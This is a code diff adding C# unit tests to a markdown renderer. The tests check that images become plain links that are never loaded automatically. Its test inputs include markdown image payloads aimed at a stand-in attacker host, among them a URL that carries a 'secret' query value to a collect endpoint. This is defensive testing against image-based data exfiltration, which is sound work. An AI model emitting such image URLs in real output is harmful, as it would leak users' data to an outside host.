@@ -49,4 +49,30 @@ public class MarkdownRendererTests
         Assert.Contains("href=\"https://example.org\"", html);
         Assert.Contains("rel=\"noopener noreferrer nofollow\"", html);
     }
+
+    [Theory]
+    [InlineData("![chart](https://evil.example/collect?q=secret)", "https://evil.example/collect?q=secret")]
+    [InlineData("![](http://evil.example/p.png)", "http://evil.example/p.png")]
+    [InlineData("![x](//evil.example/p.png)", "//evil.example/p.png")]
+    [InlineData("![x][ref]\n\n[ref]: https://evil.example/r.png", "https://evil.example/r.png")]
+    [InlineData("[![badge](https://evil.example/b.svg)](https://example.org)", "https://evil.example/b.svg")]
+    public void ToHtml_Image_IsALinkNeverLoaded(string markdown, string url)
+    {
+        var html = renderer.ToHtml(markdown);
+
+        // No element that a browser fetches by itself may carry the URL.
+        Assert.DoesNotContain("<img", html, StringComparison.OrdinalIgnoreCase);
+        Assert.DoesNotContain("src=", html, StringComparison.OrdinalIgnoreCase);
+        Assert.DoesNotContain("srcset", html, StringComparison.OrdinalIgnoreCase);
+        Assert.Contains(System.Net.WebUtility.HtmlEncode(url).Replace("&#39;", "'", StringComparison.Ordinal), html, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void ToHtml_Image_KeepsItsAltTextAsTheLinkText()
+    {
+        var html = renderer.ToHtml("![the chart](https://example.org/c.png)");
+
+        Assert.Contains(">\U0001F5BC the chart</a>", html, StringComparison.Ordinal);
+        Assert.Contains("rel=\"noopener noreferrer nofollow\"", html, StringComparison.Ordinal);
+    }
 }
